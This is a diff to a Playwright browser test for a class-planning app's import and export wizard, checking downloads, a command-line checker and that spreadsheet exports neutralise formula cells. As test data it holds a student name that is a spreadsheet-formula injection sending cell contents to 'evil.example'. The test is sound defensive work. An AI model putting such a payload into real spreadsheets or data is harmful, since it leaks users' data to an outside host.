@@ -12,7 +12,9 @@
  * - the blank templates downloaded from the app are the files in data/templates/.
  */
 import assert from 'node:assert/strict';
-import { readFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import type { Download, Page } from 'playwright-core';
 import Papa from 'papaparse';
@@ -20,6 +22,7 @@ import { readSheet } from 'read-excel-file/universal';
 import readXlsxFile from 'read-excel-file/universal';
 import type { Result, Scenario } from '../../solver/types';
 import { guessStudentMapping, importStudents, readTable, toXlsx } from '../../data/io';
+import { readScenarioFile } from '../../data/load';
 import { acceptAllSuggestions } from '../../web/io/wizard-logic';
 import type { Ctx } from './planner.spec';
 
@@ -323,6 +326,8 @@ export const tests: { name: string; run: (c: Ctx) => Promise<void> }[] = [
       assert.equal(await page.getByLabel('Course for Spansh').inputValue(), 'SPA');
       timings.problems = await timed(page, () => page.getByRole('button', { name: 'Next: rows to check' }).click(), WIZARD, 'could not be read as they stand');
 
+      await page.locator(`${WIZARD} table.ks4-io-table`).scrollIntoViewIfNeeded();
+      await page.screenshot({ path: join(c.shots, 'io-import-problems.png') });
       // Every unreadable row is listed with its row, column and reason, and nothing else is.
       const listed = await problemRows(page);
       assert.deepEqual(
@@ -469,7 +474,7 @@ export const tests: { name: string; run: (c: Ctx) => Promise<void> }[] = [
       await settled(page);
       await go(page, 'Results');
       await page.getByRole('button', { name: /^Class lists, blocking grid/ }).click();
-      const panel = page.getByRole('group', { name: 'Export' });
+      const panel = page.getByRole('group', { name: 'Export', exact: true });
       await panel.waitFor();
 
       // The result document, to check the class lists against.
@@ -477,6 +482,16 @@ export const tests: { name: string; run: (c: Ctx) => Promise<void> }[] = [
       const result = JSON.parse(new TextDecoder().decode(res.bytes)) as Result;
       const F01 = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
       assert.ok(result.students.some((s) => s.id === 'F01'), 'the imported students are in the result');
+      // The scenario and result documents load in the command line, and the independent checker passes them.
+      const scen = await download(page, () => panel.locator('[data-export=scenario-json]').click());
+      const dir = mkdtempSync(join(tmpdir(), 'ks4-io-browser-'));
+      writeFileSync(join(dir, 'scenario.json'), scen.bytes);
+      writeFileSync(join(dir, 'result.json'), res.bytes);
+      const loaded = readScenarioFile(join(dir, 'scenario.json'));
+      assert.ok(loaded.ok, 'the downloaded scenario loads in the command line');
+      assert.equal(loaded.value.students.find((s) => s.id === 'F01')?.name, F01, 'JSON keeps the name exactly as typed');
+      const check = spawnSync(join(ROOT, 'node_modules/.bin/tsx'), [join(ROOT, 'data/check-cli.ts'), join(dir, 'scenario.json'), join(dir, 'result.json')], { encoding: 'utf8' });
+      assert.equal(check.status, 0, `the command-line checker: ${check.stdout}${check.stderr}`);
 
       // Class lists as CSV: a byte-order mark, the header, one row per student per group, names neutralised.
       const csv = await download(page, () => panel.locator('[data-export=class-lists-csv]').click());
@@ -520,7 +535,7 @@ export const tests: { name: string; run: (c: Ctx) => Promise<void> }[] = [
         const bad = cells.filter(dangerous);
         assert.deepEqual(bad, [], `${f.name} has cells a spreadsheet would run: ${bad.slice(0, 3).join(' | ')}`);
         const neutralised = cells.filter((x) => /^'[=+\-@]/.test(x)).length;
-        report.push(`${f.name.replace(/^.*?-(?=[a-z-]+\.(csv|xlsx)$)/, '')} ${cells.length} cells, ${neutralised} neutralised`);
+        report.push(`${id} ${cells.length} cells, ${neutralised} neutralised`);
         if (/students|class-lists|placements/.test(id)) assert.ok(cells.includes(`'${F01}`), `${f.name} carries the neutralised name`);
       }
       console.log(`    exports checked: ${report.join('; ')}`);
@@ -528,7 +543,8 @@ export const tests: { name: string; run: (c: Ctx) => Promise<void> }[] = [
       // The blank offer template downloads from the same panel and is the committed file.
       const tpl = await download(page, () => page.getByRole('button', { name: 'Blank offer (course list) template (CSV)' }).click());
       assert.deepEqual(tpl.bytes, new Uint8Array(readFileSync(join(ROOT, 'data/templates/offer-template.csv'))));
-      await page.screenshot({ path: join(c.shots, 'io-downloads.png'), fullPage: true });
+      await panel.scrollIntoViewIfNeeded();
+      await page.screenshot({ path: join(c.shots, 'io-downloads.png') });
     },
   },
 ];
